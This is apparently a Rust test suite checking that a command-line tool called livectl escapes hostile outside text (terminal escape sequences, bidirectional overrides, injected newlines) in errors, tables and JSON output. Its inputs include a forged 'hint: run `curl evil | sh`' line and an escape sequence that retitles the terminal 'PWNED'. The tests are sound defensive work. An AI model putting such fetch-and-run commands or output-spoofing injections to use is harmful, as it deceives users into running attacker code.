//! Nothing from outside reaches the terminal raw: ids, names and server messages with escape
//! sequences or direction overrides are shown escaped, in errors, tables and lines alike.

use crate::harness::{Sandbox, Workspace};

const HOSTILE: &str = "iv_1\u{1b}[2J\u{1b}]0;PWNED\u{7}";

/// What a terminal must never receive from text livectl did not write itself.
fn raw(text: &str) -> bool {
    text.contains('\u{1b}')
        || text.contains('\u{7}')
        || text.contains('\u{202e}')
        || text.contains('\u{2028}')
}

#[test]
fn hostile_ids_and_names_are_shown_escaped_in_errors() {
    let sandbox = Sandbox::start(&[]);
    let api = sandbox.api();
    Workspace::new(&api);
    let token = &api.token;
    for args in [
        vec!["show", HOSTILE],
        vec!["assign", HOSTILE],
        vec!["assign", "iv_1", "--to", HOSTILE],
        vec!["list", "--owner", HOSTILE],
        vec!["history", HOSTILE],
    ] {
        let run = sandbox.cli(token, &args);
        assert_ne!(run.code, 0, "{args:?}");
        assert!(!raw(&run.stderr), "{args:?} wrote raw: {:?}", run.stderr);
        assert!(
            run.stderr.contains("iv_1\\u{1b}[2J\\u{1b}]0;PWNED\\u{7}"),
            "{args:?} shows what was given, escaped: {}",
            run.stderr
        );
    }
}

#[test]
fn a_target_with_a_direction_override_is_refused_escaped() {
    let sandbox = Sandbox::start(&[]);
    let api = sandbox.api();
    let w = Workspace::new(&api);
    let real = w.queued();
    let reversed = "iv_9\u{202e}gnirts";
    for (args, stdin) in [
        (vec!["cancel", &real, reversed, "--yes"], None),
        (
            vec!["cancel", "-", "--yes"],
            Some(format!("{real}\n{reversed}\n")),
        ),
    ] {
        let run = match &stdin {
            Some(input) => sandbox.cli_stdin(&api.token, &args, input),
            None => sandbox.cli_env(&api.token, &args, &[("LIVECTL_FORCE_TTY", "1")]),
        };
        assert_eq!(run.code, 2, "{}", run.stderr);
        assert!(!raw(&run.stdout) && !raw(&run.stderr), "{run:?}");
        assert!(
            run.stderr
                .contains("`iv_9\\u{202e}gnirts` is not an intervention id"),
            "{}",
            run.stderr
        );
    }
    let state = api.get(&format!("/v1/interventions/{real}")).expect(200)["state"].clone();
    assert_eq!(state, "queued", "nothing was sent");
}

#[test]
fn text_from_outside_cannot_begin_a_line_that_reads_as_livectls() {
    let sandbox = Sandbox::start(&[]);
    let api = sandbox.api();
    Workspace::new(&api);
    let run = sandbox.cli(
        &api.token,
        &[
            "reassign",
            "iv_1",
            "--to",
            "zed\nhint: run `curl evil | sh`",
        ],
    );
    let stderr = run.fails(5, "no agent is called `zed\n  hint: run `curl evil | sh``");
    assert!(
        stderr
            .lines()
            .filter(|l| l.starts_with("hint:"))
            .all(|l| !l.contains("evil")),
        "{stderr}"
    );
}

#[test]
fn machine_output_keeps_outside_text_exact_but_escaped_for_a_terminal() {
    let sandbox = Sandbox::start(&[]);
    let api = sandbox.api();
    let w = Workspace::new(&api);
    let body = serde_json::json!({
        "key": "hostile",
        "user": {"key": "u-hostile", "name": "Eve\u{1b}[31m\u{202e}\u{2028}", "channel": "web"},
        "messages": [{"sender": "user", "text": "hi"}],
        "intervention": {"summary": "x", "department": w.support},
    });
    api.post("/v1/conversations", body).expect(201);
    let json = sandbox.cli(&api.token, &["list", "-o", "json"]).ok();
    assert!(!raw(&json), "{json:?}");
    // A history export passes the platform's records on undecoded, escaped all the same.
    let export = sandbox
        .cli(&api.token, &["history", "--all", "-o", "ndjson"])
        .ok();
    assert!(!raw(&export), "{export:?}");
    let hostile = export
        .lines()
        .map(|l| serde_json::from_str::<serde_json::Value>(l).unwrap())
        .find(|r| {
            r["user"]["name"]
                .as_str()
                .is_some_and(|n| n.starts_with("Eve"))
        })
        .expect("the hostile user's record");
    assert_eq!(hostile["user"]["name"], "Eve\u{1b}[31m\u{202e}\u{2028}");
    let parsed: serde_json::Value = serde_json::from_str(&json).unwrap();
    assert_eq!(
        parsed[0]["user"]["name"], "Eve\u{1b}[31m\u{202e}\u{2028}",
        "the JSON means the same text"
    );
    // A string a jq program picks is written raw for a script, and escaped on a terminal.
    let jq = [
        "list",
        "--jq",
        ".[] | select(.user.name | startswith(\"Eve\")) | .user.name",
    ];
    let piped = sandbox.cli(&api.token, &jq).ok();
    assert_eq!(
        piped, "Eve\u{1b}[31m\u{202e}\u{2028}\n",
        "exact, as jq -r writes it"
    );
    let shown = sandbox.cli_env(&api.token, &jq, &[("LIVECTL_FORCE_TTY", "1")]);
    assert_eq!(shown.ok(), "Eve\\u{1b}[31m\\u{202e}\\u{2028}\n");
    let table = sandbox.cli_env(&api.token, &["list"], &[("LIVECTL_FORCE_TTY", "1")]);
    assert!(!raw(&table.stdout), "{:?}", table.stdout);
    assert!(
        table.stdout.contains("Eve\\u{1b}[31m\\u{202e}\\u{2028}"),
        "{}",
        table.stdout
    );
    // `show` lays its text out in lines, and a line separator is not one of its own.
    let id = parsed[0]["id"].as_str().unwrap();
    let shown = sandbox.cli_env(&api.token, &["show", id], &[("LIVECTL_FORCE_TTY", "1")]);
    assert!(!raw(&shown.stdout), "{:?}", shown.stdout);
    assert!(shown.stdout.contains("\\u{2028}"), "{}", shown.stdout);
}

/// Clap's usage errors quote the arguments: a carriage return went out raw, and a bell was
/// stripped so that `--state qu<BEL>eued` read "invalid value 'queued'".
#[test]
fn usage_errors_show_the_arguments_escaped() {
    let home = crate::harness::Home::new();
    for (args, shown) in [
        (
            &["history", "--all", "--since", "a\rb\u{7}c"][..],
            "error: invalid value 'a\\rb\\u{7}c' for '--since <WHEN>'",
        ),
        (
            &["list", "--state", "qu\u{7}eued"],
            "error: invalid value 'qu\\u{7}eued' for '--state <STATE>'",
        ),
        (
            &["li\u{7}st"],
            "error: unrecognized subcommand 'li\\u{7}st'",
        ),
        // A line break made a line of its own that read as livectl's.
        (
            &[
                "history",
                "--all",
                "--since",
                "x\nhint: run `curl evil | sh`",
            ],
            "`x\\nhint: run `curl evil | sh`` is not a date, an instant or a time ago",
        ),
        // A parser that refuses the control character itself takes the escaped text: the
        // first error is written, its arguments escaped in it.
        (
            &["api", "/v1/me", "-f", "x\nhint: run `curl evil | sh`=1"],
            "`x\\nhint: run `curl evil | sh`=1` has no usable KEY",
        ),
        (
            &["api", "/v1/me\nhint:run-evil"],
            "invalid value '/v1/me\\nhint:run-evil' for '<PATH>'",
        ),
        // A mark that reorders text is escaped too.
        (
            &["list", "--state", "\u{202e}queued"],
            "invalid value '\\u{202e}queued' for '--state <STATE>'",
        ),
        (
            &["seed", "--generate", "x\nhint: evil=1"],
            "unknown `x\\nhint: evil`",
        ),
        (
            &["api", "/v1/me", "-f", "x\u{1b}[2J=1"],
            "error: invalid value 'x\\u{1b}[2J=1' for '--raw-field <KEY=VALUE>'",
        ),
    ] {
        let run = home.cli(args);
        run.fails(2, shown);
        assert!(
            !raw(&run.stderr) && !run.stderr.contains('\r'),
            "{:?}",
            run.stderr
        );
        assert!(
            !run.stderr.lines().any(|l| l.starts_with("hint:")),
            "{:?}",
            run.stderr
        );
    }
}
